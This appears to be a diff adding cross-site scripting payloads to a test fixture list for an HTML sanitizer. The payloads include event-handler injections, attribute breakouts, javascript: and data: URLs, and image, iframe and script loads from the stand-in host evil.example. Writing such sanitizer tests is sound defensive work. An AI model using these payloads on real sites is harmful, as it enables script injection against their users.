@@ -4,6 +4,31 @@
  * the page, if it got through.
  */
 export const SCRIPT_INJECTIONS: readonly string[] = [
+  // The elements that texts may have, with more than they may have
+  '<img src="/media/0abc.0123456789abcdef/640.webp" onerror=alert(1) onload=alert(1)>',
+  '<img src="/media/0abc.0123456789abcdef/640.webp" srcset="//evil.example/x.png 1x">',
+  '<img src="//evil.example/media/0abc.0123456789abcdef/640.webp">',
+  '<img src="https://evil.example/media/0abc.0123456789abcdef/640.webp">',
+  '<img src="/media/../evil.example/0abc.0123456789abcdef/640.webp">',
+  '<img src="/media/0abc.0123456789abcdef/640.webp?//evil.example/x.png">',
+  '<img src="/media/0abc.0123456789abcdef/640.webp" alt="x" style="position:fixed;background:url(//evil.example/x.png)">',
+  '<img src="/media/0abc.0123456789abcdef/640.webp" alt="&quot;><script>alert(1)</script>">',
+  '<img src="/media/0abc.0123456789abcdef/640.webp" width="1&quot; onerror=&quot;alert(1)" height="1">',
+  '<img src="/media/0abc.0123456789abcdef/640.webp" role="presentation&quot; onerror=&quot;alert(1)" alt="">',
+  '<figure onclick=alert(1) style="position:fixed"><img src="/media/0abc.0123456789abcdef/640.webp"><figcaption onmouseover=alert(1)>x</figcaption></figure>',
+  '<figure><img src=x onerror=alert(1)><figcaption><img src=y onerror=alert(1)></figcaption></figure>',
+  '<figure><figcaption><figcaption></figcaption><script>alert(1)</script></figcaption></figure>',
+  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary><iframe src="//evil.example"></iframe></details>',
+  '<details><summary><img src=x onerror=alert(1)></summary></details>',
+  '<aside data-notice="important" style="position:fixed;inset:0" onmouseover=alert(1)>x</aside>',
+  '<aside data-notice="important&quot; onmouseover=&quot;alert(1)">x</aside>',
+  '<aside role="alertdialog" data-notice="information" tabindex=0 onfocus=alert(1)>x</aside>',
+  '<p data-contact="x&quot;><script>alert(1)</script>">x</p>',
+  '<p data-contact="../../evil" data-island="slider" data-props="{}">x</p>',
+  '<a data-entry="x&quot; onclick=&quot;alert(1)" href="/news">x</a>',
+  '<a data-entry="abc" href="javascript:alert(1)">x</a>',
+  '<ol data-kind="steps" start="1&quot; onclick=&quot;alert(1)" type="a&quot;><script>alert(1)</script>"><li>x</li></ol>',
+  '<ul data-kind="attachments" onclick=alert(1)><li><a href="data:text/html,<script>alert(1)</script>">x</a></li></ul>',
   // Script elements, whole, broken and nested
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
